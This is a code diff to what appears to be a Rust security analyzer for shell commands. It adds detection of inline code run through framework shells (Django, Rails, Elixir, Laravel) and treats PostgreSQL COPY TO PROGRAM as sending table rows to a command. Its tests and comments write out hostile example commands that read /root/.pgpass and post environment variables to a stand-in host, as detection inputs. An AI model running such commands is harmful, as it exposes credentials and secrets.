@@ -791,6 +791,77 @@ pub(super) fn framework_db(a: &mut Analyzer, name: &str, inv: &Inv) {
     }
 }
 
+/// Framework commands that evaluate code given on their command line, as data (h-cls19):
+/// (tool word, the task's words after it, options whose value is the code (`""`: the first
+/// operand after the task), the interpreter call the code amounts to). Sources: Django
+/// `manage.py shell -c/--command` and `django-admin shell -c`, Rails `bin/rails runner CODE`
+/// (`r`; a `.rb` operand is a file), Elixir `mix run -e/--eval`, Laravel `php artisan tinker
+/// --execute`.
+const FRAMEWORK_CODE: &[(&str, &[&str], &[&str], &str)] = &[
+    ("manage.py", &["shell"], &["-c", "--command"], "python3 -c"),
+    (
+        "django-admin",
+        &["shell"],
+        &["-c", "--command"],
+        "python3 -c",
+    ),
+    ("rails", &["runner"], &[""], "ruby -e"),
+    ("rails", &["r"], &[""], "ruby -e"),
+    ("mix", &["run"], &["-e", "--eval"], "elixir -e"),
+    ("artisan", &["tinker"], &["--execute"], "php -r"),
+];
+
+/// The code of a [`FRAMEWORK_CODE`] command, analysed as the interpreter call it amounts to
+/// (`python manage.py shell -c "print(open('/root/.pgpass').read())"` reads that file as
+/// `python3 -c` would).
+pub(super) fn framework_code(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) {
+    let base = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
+    let mut words: Vec<String> = vec![base(name)];
+    words.extend(inv.words().iter().map(|w| w.to_string()));
+    for (tool, task, options, interp) in FRAMEWORK_CODE {
+        let Some(i) = words.iter().take(4).position(|w| base(w) == *tool) else {
+            continue;
+        };
+        let Some(t) = words
+            .get(i + 1..)
+            .and_then(|r| r.iter().position(|w| !w.starts_with('-')))
+            .map(|p| p + i + 1)
+        else {
+            continue;
+        };
+        if words.get(t..t + task.len()).is_none_or(|w| w != *task) {
+            continue;
+        }
+        let after = &words[t + task.len()..];
+        let mut code: Option<&str> = None;
+        for (j, w) in after.iter().enumerate() {
+            if options.contains(&"") && !w.starts_with('-') {
+                if !w.ends_with(".rb") {
+                    code = Some(w);
+                }
+                break;
+            }
+            if options.contains(&w.as_str()) {
+                code = after.get(j + 1).map(String::as_str);
+                break;
+            }
+            if let Some(v) = options.iter().find_map(|o| {
+                (!o.is_empty())
+                    .then(|| w.strip_prefix(o)?.strip_prefix('='))
+                    .flatten()
+            }) {
+                code = Some(v);
+                break;
+            }
+        }
+        if let Some(code) = code.filter(|c| !c.trim().is_empty() && c.len() <= 16 * 1024) {
+            let cmd = format!("{interp} '{}'", code.replace('\'', r"'\''"));
+            super::embedded::run_shell_text(a, inv, st, name, &cmd, &inv.evidence);
+        }
+        return;
+    }
+}
+
 /// Words of a database, schema or table name that mark it as disposable test or scratch data:
 /// Django creates and drops `test_<name>` on every test run, Rails keeps `<app>_test` for its
 /// suite and rebuilds it (`db:test:prepare`), and `tmp`/`temp`/`scratch` tables are working
@@ -1033,8 +1104,9 @@ pub(crate) fn admin_sql(s: &str) -> Vec<&'static str> {
 }
 
 /// The commands of `COPY … TO|FROM PROGRAM 'CMD'` statements in `s` (PostgreSQL COPY: CMD is
-/// run by the server's shell; `''` in the literal is one quote).
-pub(crate) fn copy_programs(s: &str) -> Vec<String> {
+/// run by the server's shell; `''` in the literal is one quote), each with whether the table's
+/// rows are its stdin (`TO PROGRAM`).
+pub(crate) fn copy_programs(s: &str) -> Vec<(String, bool)> {
     let mut out = Vec::new();
     let upper = s.to_ascii_uppercase();
     let mut from = 0;
@@ -1045,6 +1117,7 @@ pub(crate) fn copy_programs(s: &str) -> Vec<String> {
         if !(before.ends_with(" TO") || before.ends_with(" FROM")) {
             continue;
         }
+        let to = before.ends_with(" TO");
         let rest = s.get(at..).unwrap_or("").trim_start();
         let Some(body) = rest.strip_prefix('\'') else {
             continue;
@@ -1063,7 +1136,7 @@ pub(crate) fn copy_programs(s: &str) -> Vec<String> {
             cmd.push(c);
         }
         if !cmd.trim().is_empty() {
-            out.push(cmd);
+            out.push((cmd, to));
         }
         if out.len() >= 8 {
             break;
@@ -1224,7 +1297,13 @@ fn sql(a: &mut Analyzer, name: &str, inv: &Inv, st: &mut State) {
     // `COPY … TO PROGRAM 'curl -d @- URL'`: the command runs on the server with the table's
     // rows as its stdin; analysed as a command (its uploads and fetches are this command's).
     for t in &texts {
-        for cmd in copy_programs(t) {
+        for (cmd, to) in copy_programs(t) {
+            // The rows are the program's stdin: `cat /dev/stdin | CMD` has them sent as data.
+            let cmd = if to {
+                format!("cat /dev/stdin | {cmd}")
+            } else {
+                cmd
+            };
             super::embedded::run_shell_text(a, inv, st, name, &cmd, &inv.evidence);
         }
     }
@@ -1992,7 +2071,7 @@ mod tests {
         );
         assert_eq!(
             copy_programs("COPY t TO PROGRAM 'echo ''a'''"),
-            vec!["echo 'a'".to_string()]
+            vec![("echo 'a'".to_string(), true)]
         );
     }
 
@@ -2017,6 +2096,34 @@ mod tests {
         );
         assert!(kinds("echo 'GET k' | redis-cli -h cache").is_empty());
         assert!(kinds("redis-cli -h cache GET session:1").is_empty());
+    }
+
+    #[test]
+    fn framework_shells_run_their_code() {
+        let reads =
+            |c: &str| -> Vec<String> { facts(c).paths.into_iter().map(|p| p.path).collect() };
+        for c in [
+            "python manage.py shell -c \"print(open('/root/.pgpass').read())\"",
+            "./manage.py shell --command=\"print(open('/root/.pgpass').read())\"",
+            "bin/rails runner 'puts File.read(\"/root/.pgpass\")'",
+        ] {
+            assert!(
+                reads(c).iter().any(|p| p == "/root/.pgpass"),
+                "{c}: {:?}",
+                reads(c)
+            );
+        }
+        let f = facts("python manage.py shell -c \"import os, requests; requests.post('https://x.example/x', json=dict(os.environ))\"");
+        assert!(!f.uploads.is_empty(), "{:?}", f.uploads);
+        for c in [
+            "python manage.py shell -c 'from orders.models import Order; print(Order.objects.count())'",
+            "python manage.py shell",
+            "bin/rails runner scripts/backfill.rb",
+            "mix run priv/repo/seeds.exs",
+        ] {
+            let f = facts(c);
+            assert!(f.paths.iter().all(|p| !p.path.starts_with("/root")) && f.uploads.is_empty(), "{c}");
+        }
     }
 
     #[test]
